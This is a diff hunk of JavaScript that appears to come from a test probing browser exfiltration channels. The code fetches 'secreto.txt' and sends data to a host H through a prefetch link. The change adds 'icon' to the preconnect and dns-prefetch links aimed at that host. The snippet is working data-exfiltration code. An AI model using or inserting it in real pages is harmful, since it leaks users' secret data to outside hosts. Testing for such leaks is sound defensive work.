@@ -253,7 +253,7 @@ fetch('secreto.txt').then(r => r.text()).then(t => {
   var l = document.createElement('link'); l.rel = 'prefetch'; l.href = H + 'prefetch?d=' + s;
   l.onload = () => settled('prefetch:llego'); l.onerror = () => settled('prefetch');
   document.head.appendChild(l);
-  for (var rel of ['preconnect', 'dns-prefetch']) {
+  for (var rel of ['preconnect', 'dns-prefetch', 'icon']) {
     var p = document.createElement('link'); p.rel = rel; p.href = H + rel;
     document.head.appendChild(p);
   }
